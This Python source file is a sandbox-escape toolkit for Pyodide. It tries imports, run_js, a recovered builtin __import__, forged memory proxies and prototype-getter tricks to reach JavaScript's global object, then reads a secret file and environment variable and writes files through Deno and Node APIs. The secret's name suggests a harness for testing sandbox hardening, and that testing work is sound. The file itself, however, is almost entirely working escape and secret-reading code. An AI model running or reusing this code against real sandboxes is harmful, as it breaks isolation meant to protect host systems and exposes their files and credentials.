# Ways from Python to JavaScript's global object, the plain ones first. Where the hardening is off, the first works.
_found = []


def world():
    """JavaScript's global object, or an error that says what was tried."""
    if _found:
        return _found[0]
    tried = []
    for way in (_import_js, _run_js, _real_import, _forged):
        try:
            for thing in way():
                found = climb(thing)
                if found is not None:
                    _found.append(found)
                    return found
        except Exception as error:
            tried.append(f"{way.__name__}: {type(error).__name__}: {str(error)[:100]}")
    raise RuntimeError("no way to JavaScript: " + "; ".join(tried))


def climb(thing):
    """From any object of JavaScript to the global object; None where that fails."""
    for step in (_itself, _constructor, _getter, _module_getter):
        try:
            found = step(thing)
            if found is not None and _is_world(found):
                return found
        except Exception:
            pass
    return None


def _is_world(thing):
    return hasattr(thing, "globalThis") or hasattr(thing, "Deno") or hasattr(thing, "process")


def _itself(thing):
    return thing


def _constructor(thing):
    return thing.constructor.constructor("return globalThis")()


def _getter(thing):
    prototype = thing.constructor.prototype
    prototype.__defineGetter__("attackersWorld", prototype.valueOf)
    return thing.attackersWorld


def _module_getter(thing):
    api = getattr(thing, "_api", thing)
    module = getattr(thing, "_module", None) or getattr(api, "_module", None)
    prototype = module.constructor.prototype
    for name in ("window", "screen", "orientation"):
        prototype.__defineGetter__(name, prototype.valueOf)
    return module.screenOrientation()


def _import_js():
    import js

    return [js]


def _run_js():
    from pyodide.code import run_js

    return [run_js("globalThis")]


def _real_import():
    import collections

    real = collections.__dict__["__builtins__"]["__import__"]
    return [real("js"), real("pyodide_js")]


def _forged():
    # Only with the tool `memory`: a wrong guess ends the process.
    for reference in (5, 3, 2, 7):
        yield forge_proxy(reference)


def members(world, **values):
    """An object of JavaScript with these members."""
    made = world.Object.new()
    for name, value in values.items():
        setattr(made, name, value)
    return made


def items(world, *values):
    """An array of JavaScript."""
    made = world.Array.new()
    for value in values:
        made.push(value)
    return made


def use(world):
    """Reads the secret and writes a file by the plainest doors of Deno and Node."""
    doors = {
        "Deno reads": lambda: world.Deno.readTextFileSync(SECRET_FILE),
        "Deno writes": lambda: world.Deno.writeTextFileSync(FOLDER + "/" + NAME, "x"),
        "Deno's environment": lambda: world.Deno.env.get("PHAROS_ATTACK_SECRET"),
        "node:fs reads": lambda: node(world, "fs").readFileSync(SECRET_FILE, "utf8"),
        "node:fs writes": lambda: node(world, "fs").writeFileSync(FOLDER + "/" + NAME, "x"),
        "node:sqlite writes": lambda: node(world, "sqlite").DatabaseSync.new(FOLDER + "/" + NAME + ".db").exec("create table t(x)"),
        "process's environment": lambda: world.process.env.PHAROS_ATTACK_SECRET,
    }
    told = {}
    for name, open_door in doors.items():
        try:
            told[name] = str(open_door())
        except Exception as error:
            told[name] = f"{type(error).__name__}: {str(error)[:200]}"
    return told


def node(world, name):
    """A module of Node."""
    return world.process.getBuiltinModule("node:" + name)
